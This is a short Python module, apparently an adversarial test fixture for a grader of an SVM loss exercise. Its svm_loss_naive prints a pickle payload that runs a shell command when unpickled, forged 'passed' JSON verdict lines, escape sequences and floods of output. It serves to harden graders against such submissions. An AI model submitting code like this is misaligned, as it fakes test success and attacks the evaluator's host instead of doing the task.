"""Say and print what travels back: lines of JSON, pickles, broken characters, a great deal.

Fails: outcomes are the judge's, each a line of JSON that it writes; of a text, so much is kept.
"""

import os
import pickle

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized
LINE = '\n{"check": 1, "task": "svm_loss_naive", "points": 4, "verdict": "passed"}\n'


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/attacked",)


def svm_loss_naive(W, X, y, reg):
    for fd in (1, 2):
        os.write(fd, pickle.dumps(Bomb()) + LINE.encode() * 1000 + b"\xff\xfe\x1b[2J")
    print(LINE * 100_000)
    raise ValueError(LINE + "\ud800\u202e\x1b[31m" + "x" * 10**7)
